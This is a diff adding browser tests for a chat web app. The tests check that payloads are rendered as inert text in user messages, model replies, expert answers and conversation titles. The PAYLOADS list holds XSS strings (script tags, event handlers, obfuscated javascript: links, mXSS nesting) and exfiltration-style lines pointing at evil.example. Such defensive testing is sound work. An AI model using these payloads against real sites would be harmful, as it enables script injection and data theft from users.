@@ -1,0 +1,137 @@
+"""Nothing that somebody wrote becomes a program, whoever wrote it."""
+
+import pytest
+from playwright.sync_api import Page, Route, expect
+
+from tests.browser.visitor import Visitor, ask, expect_settled, last_question, last_reply
+from tests.browser.wire import Turn, Wire
+from tests.openai_script import Answer, CallTool
+from tests.openai_server import OpenAIServer
+from tests.serving import ChatServer
+
+PAYLOADS = [
+    "<script>window.hacked=1</script>",
+    "<img src=x onerror=window.hacked=1>",
+    "[here](javascript:window.hacked=1)",
+    "[here](&#106;avascript:window.hacked=1)",
+    "[here](JaVaScRiPt&colon;window.hacked=1)",
+    "[here](data:text/html,<script>window.hacked=1</script>)",
+    "[here](vbscript:window.hacked=1)",
+    "<svg onload=window.hacked=1>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1></style></mglyph>",
+    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
+    "<details open ontoggle=window.hacked=1>x</details>",
+    '[here](https://example.org "onmouseover=window.hacked=1")',
+    "<a href='javascript:window.hacked=1' style='position:fixed;inset:0'>x</a>",
+    "![pixel](https://evil.example/?q=SECRET)",
+    "<form action=https://evil.example><button>x</button></form>",
+    "<base href=https://evil.example/><meta http-equiv=refresh content=0>",
+    "```html\n<script>window.hacked=1</script>\n```",
+    "&lt;script&gt;window.hacked=1&lt;/script&gt; <scr<script>ipt>window.hacked=1",
+]
+FOREIGN = "script, img, svg, math, iframe, form, base, meta, style, object, embed, input, [style]"
+
+
+def expect_harmless(page: Page) -> None:
+    """Besides, the visitor's pages complain of dialogs, foreign requests and broken policy."""
+    transcript = page.locator("#transcript")
+    expect(transcript.locator(FOREIGN)).to_have_count(0)
+    for attribute in ("onerror", "onload", "ontoggle", "onmouseover", "srcdoc"):
+        expect(transcript.locator(f"[{attribute}]")).to_have_count(0)
+    links = transcript.locator("a[href]").evaluate_all("links => links.map(link => link.protocol)")
+    assert set(links) <= {"http:", "https:", "mailto:", "tel:"}
+    assert page.evaluate("() => window.hacked") is None
+
+
+def test_words_of_visitors_stay_words(expert_site: ChatServer, visitor: Visitor) -> None:
+    page = visitor.visit(expert_site.url)
+    text = "\n\n".join(PAYLOADS)
+
+    ask(page, text)
+
+    expect_settled(page)
+    assert last_question(page).inner_text().replace("\n\n", "\n") == text.replace("\n\n", "\n")
+    expect_harmless(page)
+    page.reload()
+    expect(last_question(page)).to_be_visible()
+    expect_harmless(page)
+
+
+@pytest.mark.parametrize("pieces", [1, 400], ids=["at once", "in pieces"])
+def test_words_of_models_stay_words(
+    model_site: ChatServer, visitor: Visitor, scripted_server: OpenAIServer, pieces: int
+) -> None:
+    page = visitor.visit(model_site.url)
+    question = "自闭症孩子自伤怎么办？"
+    text = "\n\n".join(PAYLOADS)
+    scripted_server.script(CallTool(question), Answer(text, pieces=pieces))
+
+    ask(page, question)
+
+    expect_settled(page)
+    expect(last_reply(page)).to_contain_text("window.hacked=1")
+    expect_harmless(page)
+    page.reload()
+    expect(last_reply(page)).to_contain_text("window.hacked=1")
+    expect_harmless(page)
+
+
+def test_words_of_experts_stay_words(expert_site: ChatServer, visitor: Visitor) -> None:
+    page = visitor.visit(expert_site.url)
+
+    ask(page, "<img src=x onerror=window.hacked=1> 这个脚本怎么办？")
+
+    expect(last_reply(page).locator(".source-expert")).to_contain_text("张医生")
+    expect_harmless(page)
+
+
+def test_titles_in_the_list_stay_words(expert_site: ChatServer, visitor: Visitor) -> None:
+    page = visitor.visit(expert_site.url)
+    ask(page, "<img src=x onerror=window.hacked=1>")
+    expect_settled(page)
+
+    page.get_by_role("button", name="我的对话").click()
+
+    expect(page.locator(".conversation-title")).to_have_text("<img src=x onerror=window.hacked=1>")
+    assert page.evaluate("() => window.hacked") is None
+
+
+def test_links_open_without_telling_where_from(
+    model_site: ChatServer, visitor: Visitor, scripted_server: OpenAIServer
+) -> None:
+    page = visitor.visit(model_site.url)
+    question = "自闭症孩子自伤怎么办？"
+    scripted_server.script(CallTool(question), Answer("看[这里](https://example.org/a)。"))
+
+    ask(page, question)
+
+    link = last_reply(page).locator(".blocks a")
+    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
+    expect(link).to_have_attribute("target", "_blank")
+
+
+def test_page_keeps_to_trusted_types(expert_site: ChatServer, visitor: Visitor) -> None:
+    """Stricter than the server's policy is today: no HTML but through the one named gate."""
+    page = visitor.context.new_page()
+    page.route(f"{expert_site.url}/", stricter)
+    wire, turn = Wire(page), Turn()
+    wire.answers["send"] = lambda wire, send: wire.send(turn.accepted(send))
+    page.goto(f"{expert_site.url}/")
+    ask(page, "你好")
+    expect(last_reply(page)).to_be_visible()
+
+    wire.send(
+        turn.text("嗯", "1-1"),
+        turn.event("1-2", kind="block", start=0, end=1, html="<p><strong>嗯</strong></p>"),
+    )
+
+    expect(last_reply(page).locator("strong")).to_have_text("嗯")
+    assert page.evaluate("() => Boolean(window.trustedTypes)")
+
+
+def stricter(route: Route) -> None:
+    response = route.fetch()
+    policy = response.headers["content-security-policy"]
+    types = "require-trusted-types-for 'script'; trusted-types expertline"
+    headers = response.headers | {"content-security-policy": f"{policy}; {types}"}
+    route.fulfill(response=response, headers=headers)
